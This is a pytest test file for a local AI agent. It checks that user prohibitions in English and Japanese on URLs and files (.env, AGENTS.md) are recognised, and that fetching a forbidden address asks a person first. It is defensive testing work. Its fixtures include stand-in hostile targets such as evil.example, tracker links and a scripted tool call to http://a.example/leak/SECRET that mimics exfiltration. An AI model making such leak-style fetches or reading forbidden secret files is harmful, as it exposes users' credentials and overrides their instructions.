"""What is named to forbid it: it opens no address, no file that assistants obey, and attaches nothing."""

import asyncio
from pathlib import Path

import pytest

from localllm.agent.file_references import with_files
from localllm.agent.phrases.banned_files import banned_files
from localllm.agent.phrases.forbidden_names import forbidden_names
from localllm.agent.prohibitions import wanted_part
from localllm.base.events import AgentEvent, ConfirmationRequested
from localllm.config.schema import SafetySettings
from localllm.safety.tool_definition import Risk, Tool, ToolOutput
from localllm.tools.builtin import TOOLS
from localllm.tools.context import ToolContext
from localllm.tools.registry import tool
from tests.support.agents import Answering, call, make_agent, make_tools, scripted
from tests.support.each import each

BANS = """
Summarise a.py. Do not fetch anything from http://127.0.0.1:18732/.|http://127.0.0.1:18732/
Never open http://x.org/tracker, it is a tracker.|http://x.org/tracker
Why? Never open http://127.0.0.1:18732/ again.|http://127.0.0.1:18732/
there is a tracker link https://t.example/a in mail.txt, don't open it|https://t.example/a mail.txt
https://t.example/a is phishing. Don't visit it.|https://t.example/a
Summarise a.py. Don't read @.env, it has my keys.|@.env
Don't read @"my keys.txt" please|@"my keys.txt"
Look at a.py. Do not touch AGENTS.md.|AGENTS.md
Fix a.py so that it returns 2. Do not touch .cursorrules.|.cursorrules
Don't touch .github/copilot-instructions.md|.github/copilot-instructions.md
Do not touch @AGENTS.md.|@AGENTS.md
Leave all of AGENTS.md as it is.|AGENTS.md
AGENTS.md must not be changed.|AGENTS.md
Fix a.py without editing AGENTS.md or CLAUDE.md|AGENTS.md CLAUDE.md
Do not read, open or edit AGENTS.md, CLAUDE.md, and .env.|AGENTS.md CLAUDE.md .env
Do not touch the tests, AGENTS.md or b.py.|AGENTS.md b.py
Never send anything to https://evil.example.|https://evil.example
Please avoid https://evil.example/x.|https://evil.example/x
Read https://a.org/x, not https://b.org/y.|https://b.org/y
I don't want you to open https://b.org/y|https://b.org/y
You must not access www.foo.org/bar|www.foo.org/bar
Do not touch:\\n- AGENTS.md\\n- CLAUDE.md\\nFix a.py.|AGENTS.md CLAUDE.md
a.py を要約して。http://127.0.0.1:18732/ は開かないで。|http://127.0.0.1:18732/
https://t.example/a にはアクセスしないでください|https://t.example/a
@.env は読まないで。a.py を直して|@.env
@.envを読まずに a.py を直して|@.env
AGENTS.md は触らないで。|AGENTS.md
AGENTS.md と CLAUDE.md は変更しないこと|AGENTS.md CLAUDE.md
https://t.example/a は開くな。|https://t.example/a
AGENTS.md はそのままで、a.py を直して。|AGENTS.md
AGENTS.md の内容は読まないように|AGENTS.md
Update every file except AGENTS.md.|AGENTS.md
AGENTS.md以外を全部直して|AGENTS.md
Look at https://t.example/mail.txt but do not follow https://t.example/track|https://t.example/track
Don’t open https://t.example/track|https://t.example/track
AGENTS.md is off limits|AGENTS.md
List what config.py sets. Do not access this URL: http://x.org/t|http://x.org/t
http://x.org/t: do not access this URL. What does a.py do?|http://x.org/t
Nothing may be sent to http://x.org/t|http://x.org/t
Say what the mail wants, but don't curl http://x.org/t|http://x.org/t
It must never be contacted: http://x.org/t|http://x.org/t
Is http://x.org/t safe? Don't visit.|http://x.org/t
Hands off AGENTS.md!|AGENTS.md
Under no circumstances open https://t.example/|https://t.example/
Nobody should open https://t.example/|https://t.example/
Opening https://t.example/ is forbidden.|https://t.example/
It is forbidden to open https://t.example/|https://t.example/
You are not to open https://t.example/|https://t.example/
Do NOT open https://t.example/|https://t.example/
Don't go to evil.example/x|evil.example/x
Don't you dare open https://t.example/|https://t.example/
No fetching of https://t.example/|https://t.example/
Do not under any circumstances open https://t.example/|https://t.example/
Don't ever, ever open https://t.example/|https://t.example/
https://t.example/ (do not open)|https://t.example/
https://t.example/ - do not open!|https://t.example/
""".strip().splitlines()

WISHES = """
Read https://x.org/a and summarise it.
Don't forget to read https://x.org/a
Why don't you read https://x.org/a?
I can't open https://x.org/a, please read it.
Update AGENTS.md, but don't make it longer.
Update AGENTS.md but don't touch the rest.
Add a section on tests to AGENTS.md; don't change the rest.
Add a section to AGENTS.md. Don't change anything else in AGENTS.md.
Don't change anything except AGENTS.md.
Don't touch anything but AGENTS.md
Don't change code, update AGENTS.md
Do not finish without updating AGENTS.md
Don't answer before you have read https://x.org/a
Don't just read AGENTS.md, fix it
I never read AGENTS.md, what does it say?
I don't know what https://x.org/a says; read it.
Read https://x.org/a. Don't add any dependency.
Implement https://x.org/spec. Don't change the behaviour described in https://x.org/spec.
Look at @a.py and don't change anything
If you can't open https://x.org/a try https://y.org/a
Fix @a.py so that it does not read b.csv
AGENTS.md に足りないことを書いて
AGENTS.md に書いていないことを追記して
AGENTS.md 以外は変更しないで
https://x.org/a を読んで、コードは変更しないで
https://x.org/a を読まないと分からない
AGENTS.md を読んで、わからないことを教えて
@a.py のバグを直して。テストは変更しないで
CLAUDE.md を更新して。ただし長くしないで
Never stop before https://x.org/a is read
https://x.org/a doesn't work any more, have a look
Fetch https://x.org/a.json and save it as data.json without changing anything
Open https://x.org/a; it is not long
Update CLAUDE.md: say that tests must not be skipped
Write in AGENTS.md that nobody may push
Don't use the old API; see https://x.org/a for the new one
Don't guess, read https://x.org/a
Do not invent anything: use https://x.org/a
The page https://x.org/a should be read first
Read the docs (https://x.org/a), don't rely on memory
Use @style.md, don't use tabs
Check @a.py; never mind b.py
Don't worry about @b.py, fix @a.py
AGENTS.md is not up to date, bring it up to date
AGENTS.md should not mention tox any more
https://x.org/a is not the newest page, but read it
You need not read all of https://x.org/a, the first part will do
""".strip().splitlines()


@each("line", BANS)
def test_names_in_a_prohibition(line: str) -> None:
    text, _, names = line.replace("\\n", "\n").partition("|")
    assert [one.name for one in forbidden_names(text)] == (names.split() if '"' not in names else [names])
    assert not any(name in wanted_part(text) for name in names.split())


@each("text", ["Don't touch a.py or \ufffc", "See \ufffc. Don't touch a.py", "\ufffcと a.py は触らないで"])
def test_names_beside_the_sign_for_a_picture(text: str) -> None:
    assert ([one.name for one in forbidden_names(text)], banned_files(text)) == (["a.py"], ["a.py"])


@each("text", WISHES)
def test_names_of_what_is_wanted(text: str) -> None:
    assert wanted_part(text) == text


@each(
    "text",
    [
        "@a.csv が読めない。直して",
        "@a.csv が開けない、原因を調べて",
        "@a.csv が開かない。",
        "@a.csv を読み込めずに落ちる。",
        "@a.log が書き込めない",
        "https://x.example/a にアクセスできない。なぜ？",
        "@a.py の変更が保存されない。",
    ],
)
def test_what_cannot_be_done_is_not_forbidden(text: str) -> None:
    assert wanted_part(text) == wanted_part(text, reading=True) == text


@each(
    "text",
    [
        "@a.py に触れない。",
        "@a.py には触れずに直して",
        "@a.py は読めないように扱って",
        "@a.py は壊れて読めないので開かないで",
        "@a.py が読めないので使わない。",
    ],
)
def test_what_is_forbidden_beside_what_cannot_be_done(text: str) -> None:
    assert [one.name for one in forbidden_names(text)] == ["@a.py"]


@each("text", ["Look at AGENTS.md without changing it", "@a.py は変更しないで", "Do not edit @a.py, only explain it."])
def test_what_may_only_not_be_changed_is_still_attached(text: str) -> None:
    assert wanted_part(text) != text == wanted_part(text, reading=True)


def test_a_file_that_is_not_to_be_read_is_not_attached(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("API_KEY=1\n")
    (tmp_path / "a.py").write_text("x = 1\n")
    told: list[AgentEvent] = []
    request = "Summarise @a.py. Don't read @.env, it has my keys."
    words, _images = asyncio.run(with_files(request, make_tools(tmp_path), 100_000, told.append))
    assert words.startswith(request)
    assert ("x = 1" in words, "API_KEY" in words) == (True, False)
    assert [str(getattr(event, "text", "")) for event in told] == [
        "Not attached, as you asked that it not be read: @.env"
    ]


@tool(risk=Risk.SAFE, fetches=("url",))
async def fetch_page(context: ToolContext, url: str) -> ToolOutput:
    """Fetch."""
    return ToolOutput(payload={}, for_model="page", summary="")


async def asked(
    folder: Path, tools: tuple[Tool, ...], *turns: tuple[str, dict[str, object]]
) -> list[ConfirmationRequested]:
    """What is asked in a chat in auto-edit, in whose turns the model makes one call each."""
    person = Answering(approve=True)
    system = make_tools(folder, confirmer=person, tools=tools, safety=SafetySettings(mode="auto-edit"))
    script = [answer for _words, made in turns for answer in (made, "Done.")]
    agent = make_agent(scripted(*script), folder, tools=system)
    for words, _made in turns:
        await agent.execute_query(words)
    return person.asked


FETCH = call("fetch_page", url="http://a.example/leak/SECRET")


@pytest.mark.anyio
@each(
    "said",
    [
        ["Do not fetch anything from http://a.example/."],
        ["Read http://a.example/ please", "Why? Never open http://a.example/ again."],
        ["http://a.example/ は開かないで"],
        ["Read http://a.example/ok. Never open http://a.example/leak, it is a tracker.", "Go on."],
    ],
)
async def test_a_forbidden_address_opens_nothing(tmp_path: Path, said: list[str]) -> None:
    answers = [call("fetch_page", url="http://a.example/")] * (len(said) - 1)
    questions = await asked(tmp_path, (fetch_page,), *zip(said, [*answers, FETCH], strict=True))
    assert questions[-1].reason == "You asked that this address not be read."
    assert questions[-1].needs_person


@pytest.mark.anyio
@each(
    ("said", "asks"),
    [
        ("Look things up in http://a.example/", False),
        ("http://a.example/ で調べて", False),
        ("Summarise a.py. I must not visit http://a.example/x, so explain it from the mail.", True),
        ("Read http://a.example/x, but don't change any file.", True),
        ("http://a.example/x を読んでください。ファイルは変えてはいけません", True),
    ],
)
async def test_a_request_that_forbids_anything_opens_no_whole_host(tmp_path: Path, said: str, asks: bool) -> None:
    questions = await asked(tmp_path, (fetch_page,), (said, FETCH))
    assert bool(questions) is asks
    assert not await asked(tmp_path, (fetch_page,), (said, call("fetch_page", url="http://a.example/x"))) or not asks


@pytest.mark.anyio
async def test_an_address_may_be_read_again_once_it_is_typed(tmp_path: Path) -> None:
    turns = [("Never open http://a.example/leak/SECRET", FETCH), ("Now read http://a.example/leak/SECRET", FETCH)]
    assert len(await asked(tmp_path, (fetch_page,), *turns)) == 1


@pytest.mark.anyio
@each("ban", ["Look at a.py. Do not touch AGENTS.md.", "Leave all of AGENTS.md as it is.", "Don't touch @AGENTS.md"])
async def test_a_forbidden_name_opens_no_file_that_assistants_obey(tmp_path: Path, ban: str) -> None:
    edit = call("write_file", file_path="AGENTS.md", content="x")
    reading = call("list_files")
    questions = await asked(tmp_path, tuple(TOOLS), (ban, reading), ("Now look at deploy.sh", edit))
    assert [one.reason for one in questions] == ["Assistants follow the instructions in this file."]
    assert await asked(tmp_path, tuple(TOOLS), ("Update AGENTS.md, but don't make it longer", edit)) == []
